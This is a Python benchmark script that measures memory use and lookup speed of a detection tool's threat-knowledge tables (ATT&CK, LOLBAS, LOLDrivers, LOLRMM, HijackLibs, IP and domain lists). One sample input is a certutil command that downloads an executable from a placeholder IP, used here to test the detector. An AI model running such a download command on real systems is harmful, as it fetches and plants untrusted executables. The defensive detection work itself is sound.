"""Memory and lookup speed of the knowledge bundles, every loader warmed (issue 24).

Each loader module of `vigil.knowledge` that defines ``warm()`` is loaded in two fresh processes: one measures
what the process grew by (RSS, no tracing), the other what the loaded tables hold (tracemalloc, with the peak
while loading, and per loader). Lookups are timed on warm tables.

    .venv/bin/python -m bench.knowledge [--lookups 20000]
"""

from __future__ import annotations

import argparse
import importlib
import pkgutil
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import vigil.knowledge
from bench.machine import cpu_model, ram
from vigil.knowledge import attack, hijacklibs, lolbas, loldrivers, lolrmm, network

MIB = 1024 * 1024


def rss() -> int:
    """Resident set size of this process in bytes (Linux)."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0


def loaders() -> dict[str, Callable[[], int]]:
    found: dict[str, Callable[[], int]] = {}
    for info in pkgutil.iter_modules(vigil.knowledge.__path__):
        module = importlib.import_module(f"vigil.knowledge.{info.name}")
        warm = getattr(module, "warm", None)
        if callable(warm):
            found[info.name] = warm
    return found


def per_call_us(call: Callable[[], object], count: int) -> float:
    started = time.perf_counter()
    for _ in range(count):
        call()
    return (time.perf_counter() - started) / count * 1e6


def measure(mode: str) -> str:
    """One fresh process loading every bundle: ``rss`` or ``traced``."""
    found = loaders()
    if mode == "rss":
        before = rss()
        started = time.perf_counter()
        sizes = {name: warm() for name, warm in found.items()}
        seconds = time.perf_counter() - started
        listed = ", ".join(f"{name} ({size:,} entries)" for name, size in sizes.items())
        return f"Loaders warmed: {listed}\nLoad time: {seconds:.2f} s\nRSS growth: {(rss() - before) / MIB:.1f} MiB"
    tracemalloc.start()
    lines = []
    for name, warm in found.items():
        before = tracemalloc.get_traced_memory()[0]
        started = time.perf_counter()
        warm()
        seconds = time.perf_counter() - started
        lines.append(f"  {name}: held {(tracemalloc.get_traced_memory()[0] - before) / MIB:.2f} MiB, {seconds:.3f} s")
    held, peak = tracemalloc.get_traced_memory()
    total = f"Held (tracemalloc): {held / MIB:.1f} MiB; peak while loading {peak / MIB:.1f} MiB"
    return "\n".join([total, "Per loader (traced, in load order):", *lines])


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--lookups", type=int, default=20_000)
    parser.add_argument("--child", choices=("rss", "traced"), help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.child:
        print(measure(args.child))
        return
    print(f"Machine: {cpu_model()}, {ram()} RAM; Python {sys.version.split()[0]}")
    for mode in ("rss", "traced"):
        child = [sys.executable, "-m", "bench.knowledge", "--child", mode]
        print(subprocess.run(child, check=True, capture_output=True, text=True).stdout.strip())
    for warm in loaders().values():
        warm()
    lookups = {
        "ip_lists (IPv4, every list)": lambda: network.ip_lists("193.32.249.1"),
        "ip_lists (IPv6)": lambda: network.ip_lists("2a06:98c0::1"),
        "domain_lists": lambda: network.domain_lists("a.b.example.duckdns.org"),
        "tactics_of (3 techniques)": lambda: attack.tactics_of(("T1566.001", "T1059.001", "T1003.001")),
        "lolrmm.by_executable (path)": lambda: lolrmm.by_executable("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"),
        "lolrmm.by_domain (5 labels)": lambda: lolrmm.by_domain("relay-0b1c2d3e.net.anydesk.com"),
        "lolbas.abuse (certutil download)": lambda: lolbas.abuse(
            "certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe"
        ),
        "hijacklibs.side_load (version.dll)": lambda: hijacklibs.side_load(
            "C:\\Users\\bob\\Downloads\\version.dll", "C:\\Users\\bob\\Downloads\\choice.exe"
        ),
        "loldrivers.by_hash (SHA-256)": lambda: loldrivers.by_hash(
            "22be050955347661685a4343c51f11c7811674e030386d2264cd12ecbf544b7c"
        ),
    }
    for name, call in lookups.items():
        print(f"{name}: {per_call_us(call, args.lookups):.1f} µs per lookup")


if __name__ == "__main__":
    main()
